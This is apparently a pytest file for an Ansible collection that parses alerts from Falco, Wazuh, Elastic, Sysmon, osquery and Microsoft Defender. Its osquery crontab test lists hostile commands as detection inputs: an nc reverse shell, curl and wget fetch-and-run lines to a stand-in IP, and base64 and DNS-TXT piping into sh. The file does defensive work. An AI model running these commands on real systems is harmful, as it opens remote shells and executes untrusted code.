# Copyright: bulwark.servers contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Readers of products' alerts: what each makes of a line in the shape that the product's documentation describes."""

from __future__ import annotations

import json
import typing as t

import pytest
from ansible_collections.bulwark.servers.plugins.module_utils.edr.alerts import (
    ecs,
    falco,
    mdatp,
    osquery,
    sysmon,
    wazuh,
)
from ansible_collections.bulwark.servers.plugins.module_utils.edr.alerts.fields import NotUnderstoodError
from ansible_collections.bulwark.servers.plugins.plugin_utils.edr import alert_content

FALCO: dict[str, t.Any] = {
    "uuid": "0a1b",
    "rule": "Terminal shell in container",
    "priority": "Notice",
    "time": "2026-05-01T10:20:30.500000000Z",
    "source": "syscall",
    "tags": ["container", "T1059.004", "mitre_execution"],
    "hostname": "node7",
    "output": "a shell was started",
    "output_fields": {
        "proc.pid": 4242,
        "proc.exepath": "/bin/sh",
        "proc.cmdline": "sh -c 'id\nuname'",
        "proc.ppid": 4200,
        "proc.pname": "nginx",
        "proc.pexepath": "/usr/sbin/nginx",
        "user.name": "www-data",
        "user.uid": 33,
        "container.id": "abcdef012345",
        "container.name": "web",
        "container.image.repository": "example/web",
        "container.image.tag": "1.2",
        "fd.name": "10.0.0.5:51000->192.0.2.7:443",
        "fd.cip": "10.0.0.5",
        "fd.cport": 51000,
        "fd.sip": "192.0.2.7",
        "fd.sport": 443,
    },
}
WAZUH: dict[str, t.Any] = {
    "timestamp": "2026-05-01T10:20:30.159+0200",
    "rule": {
        "level": 12,
        "id": "553",
        "description": "File deleted.",
        "mitre": {"id": ["T1070.004", "T1485"], "tactic": ["Impact"]},
    },
    "agent": {"id": "007", "name": "db2", "ip": "192.0.2.20"},
    "manager": {"name": "wazuh1"},
    "id": "1777777777.1",
    "syscheck": {"path": "/etc/shadow", "sha256_after": "ab" * 32, "size_after": "120"},
    "location": "syscheck",
}
ECS: dict[str, t.Any] = {
    "@timestamp": "2026-05-01T10:20:30Z",
    "event": {"kind": "alert", "id": "e1", "severity": 73, "type": ["info", "denied"], "outcome": "success"},
    "rule.name": "Malicious File",
    "host": {"name": "app3", "ip": ["192.0.2.30"], "id": "h-1"},
    "file": {"path": "/tmp/x", "hash": {"sha256": "cd" * 32}, "size": 7},
    "process": {
        "pid": 9,
        "executable": "/usr/bin/curl",
        "command_line": "curl -o /tmp/x",
        "parent": {"pid": 8, "executable": "/bin/bash", "entity_id": "p8"},
    },
    "threat": [{"technique": [{"id": "T1105", "subtechnique": [{"id": "T1059.004"}]}]}],
}
SYSMON = (
    "<Event><System><EventID>11</EventID><TimeCreated SystemTime='2026-05-01T10:20:30.000000000Z'/>"
    "<EventRecordID>77</EventRecordID><Computer>web1</Computer></System><EventData>"
    "<Data Name='RuleName'>%s</Data><Data Name='ProcessId'>55</Data><Data Name='Image'>/usr/bin/wget</Data>"
    "<Data Name='TargetFilename'>/dev/shm/x</Data><Data Name='User'>root</Data></EventData></Event>"
)


def source(name: str) -> t.Any:
    return alert_content.load()[name].to_source()


def test_falco_has_process_with_parent_connection_container_and_all_fields() -> None:
    alert = falco.read(json.dumps(FALCO), source("falco"))
    assert alert is not None
    assert (alert.severity, alert.own_severity, alert.uid, alert.time) == ("low", "Notice", "0a1b", 1777630830.5)
    # The port that the client had at the time is no part of what it is about.
    assert alert.subject == "Terminal shell in container: 192.0.2.7:443 by /bin/sh in example/web"
    assert alert.techniques == ["T1059.004"]
    (evidence,) = alert.evidences
    process = evidence["process"]
    assert (process["pid"], process["cmd_line"]) == (4242, "sh -c 'id\\nuname'")
    assert process["parent_process"]["file"]["path"] == "/usr/sbin/nginx"
    assert evidence["dst_endpoint"] == {"ip": "192.0.2.7", "port": 443}
    assert evidence["container"]["image"]["name"] == "example/web"
    assert evidence["data"]["proc.cmdline"] == "sh -c 'id\\nuname'"
    assert "file" not in evidence


@pytest.mark.parametrize("name", ["host", "<NA>", None])
def test_falco_on_the_host_itself_has_no_container(name: str | None) -> None:
    fields = {**FALCO["output_fields"], "container.id": name, "container.name": name}
    alert = falco.read(json.dumps({**FALCO, "output_fields": fields}), source("falco"))
    assert alert is not None
    assert "container" not in alert.evidences[0]


def test_wazuh_names_the_agent_and_reads_tactics_of_all_versions() -> None:
    alert = wazuh.read(json.dumps(WAZUH), source("wazuh"))
    assert alert is not None
    assert (alert.severity, alert.host) == ("high", ["db2", "192.0.2.20"])
    assert alert.time == 1777623630.159
    assert alert.evidences[0]["file"]["hashes"][0]["algorithm"] == "SHA-256"
    assert alert.evidences[0]["data"]["tactics"] == "Impact"
    old = {**WAZUH, "rule": {**WAZUH["rule"], "mitre": {"tactics": ["Execution"]}}}
    older = wazuh.read(json.dumps(old), source("wazuh"))
    assert older is not None
    assert older.evidences[0]["data"]["tactics"] == "Execution"


def test_wazuh_of_the_manager_itself_is_about_this_host() -> None:
    alert = wazuh.read(json.dumps({**WAZUH, "agent": {"id": "000", "name": "wazuh1"}}), source("wazuh"))
    assert alert is not None
    assert alert.host == []


def test_ecs_reads_nested_and_dotted_names_and_a_prevention() -> None:
    alert = ecs.read(json.dumps(ECS), source("elastic_agent"))
    assert alert is not None
    assert (alert.outcome, alert.severity, alert.techniques) == ("blocked", "high", ["T1105", "T1059.004"])
    assert alert.subject == "Malicious File: /tmp/x by /usr/bin/curl"
    assert alert.evidences[0]["process"]["parent_process"]["uid"] == "p8"
    assert ecs.read(json.dumps({**ECS, "event": {"kind": "event"}}), source("elastic_agent")) is None


def test_ecs_of_kibana_is_dealt_with_when_it_is_closed() -> None:
    closed = {**ECS, "kibana.alert.uuid": "k1", "kibana.alert.workflow_status": "closed"}
    alert = ecs.read(json.dumps(closed), source("elastic_agent"))
    assert alert is not None
    assert (alert.outcome, alert.uid) == ("remediated", "k1")


@pytest.mark.parametrize(
    ("command", "is_alert"),
    [
        ("nc -e /bin/sh 192.0.2.1 80", True),
        ("curl -s http://192.0.2.1/x | bash", True),
        ('sh -c "$(dig +short t.example TXT)"', True),
        ("echo aWQ= | base64 -d | sh", True),
        ("/dev/shm/.x", True),
        ("test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily", False),
        ("curl -fsS https://example.com/ping", False),
        ("rsync -e ssh /srv backup:/srv", False),
        ("curl -so /opt/x http://192.0.2.1/x; /opt/x", False),
        ("curl -s -o /opt/x http://192.0.2.1/x; chmod +x /opt/x", True),
        ("wget -O /opt/x http://192.0.2.1/x && nohup /opt/x", True),
        # A long beginning hides nothing.
        ("true " + "a" * 3_000 + "; curl http://192.0.2.1/x | sh", True),
    ],
)
def test_osquery_judges_crontabs(command: str, is_alert: bool) -> None:
    record = {
        "name": "pack_incident-response_crontab",
        "action": "added",
        "columns": {"command": command, "path": "/x"},
    }
    assert bool(osquery.read(json.dumps(record), source("osquery"))) == is_alert
    assert not osquery.read(json.dumps({**record, "action": "removed"}), source("osquery"))


def test_osquery_reads_snapshots_and_batches() -> None:
    row = {"path": "/usr/lib/.x"}
    name = "pack_ossec-rootkit_adore"
    snapshot = {"name": name, "action": "snapshot", "snapshot": [row, {"path": "/tmp/.y"}], "unixTime": 1777630830}
    assert [alert.time for alert in osquery.read(json.dumps(snapshot), source("osquery"))] == [1777630830.0] * 2
    batch = {"name": name, "diffResults": {"added": [row], "removed": [row]}}
    assert len(osquery.read(json.dumps(batch), source("osquery"))) == 1


@pytest.mark.parametrize("before", ["", "May  1 12:20:30 web1 sysmon[12]: ", "May  1 12:20:30 web1 sysmon: "])
def test_sysmon_reads_events_that_a_rule_names(before: str) -> None:
    rule = "TechniqueID=T1105,TechniqueName=Ingress Tool Transfer"
    alert = sysmon.read(before + SYSMON % rule, source("sysmon"))
    assert alert is not None
    assert alert.subject == "Ingress Tool Transfer (file created): /dev/shm/x by /usr/bin/wget"
    assert (alert.severity, alert.techniques) == ("low", ["T1105"])
    assert sysmon.read(before + SYSMON % "-", source("sysmon")) is None


def test_sysmon_leaves_other_programs_and_refuses_declarations() -> None:
    assert sysmon.read("May  1 12:20:30 web1 sshd[1]: Accepted", source("sysmon")) is None
    with pytest.raises(NotUnderstoodError, match="declaration"):
        sysmon.read("<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'b'>]><Event>&a;</Event>", source("sysmon"))
    with pytest.raises(NotUnderstoodError, match="cut off"):
        sysmon.read((SYSMON % "x")[:90], source("sysmon"))


def _threat(*history: tuple[str, str]) -> dict[str, t.Any]:
    listed = [{"key": key, "value": value} for key, value in history]
    threat = {"name": "EICAR-Test-File", "type": "virus", "tracking_id": "t-1", "path": "/home/a/eicar"}
    return {"threats": {"scans": [{"threats": [{"threat": threat, "history": listed}]}]}}


@pytest.mark.parametrize(
    ("history", "outcome"),
    [
        ([("2026-05-01T10:00:00Z", "found")], "detected"),
        ([("2026-05-01T10:05:00Z", "quarantined"), ("2026-05-01T10:00:00Z", "found")], "quarantined"),
        ([("2026-05-01T10:00:00Z", "found"), ("2026-05-01T10:05:00Z", "removed")], "remediated"),
    ],
)
def test_mdatp_goes_by_the_newest_status(history: list[tuple[str, str]], outcome: str) -> None:
    (alert,) = mdatp.read_all(json.dumps(_threat(*history)), source("microsoft_defender"))
    assert (alert.outcome, alert.malware, alert.uid) == (outcome, ["EICAR-Test-File"], "t-1")
    assert alert.subject == "EICAR-Test-File in /home/a/eicar"
    assert alert.time == 1777629600.0


def test_mdatp_of_a_new_form_is_neither_quiet_nor_an_alert() -> None:
    assert mdatp.read_all('{"threats": {"scans": []}}', source("microsoft_defender")) == []
    for output in ("", "{", "No threats", '{"threats": 3}', '{"threats": [{"other": 1}]}'):
        with pytest.raises(NotUnderstoodError):
            mdatp.read_all(output, source("microsoft_defender"))
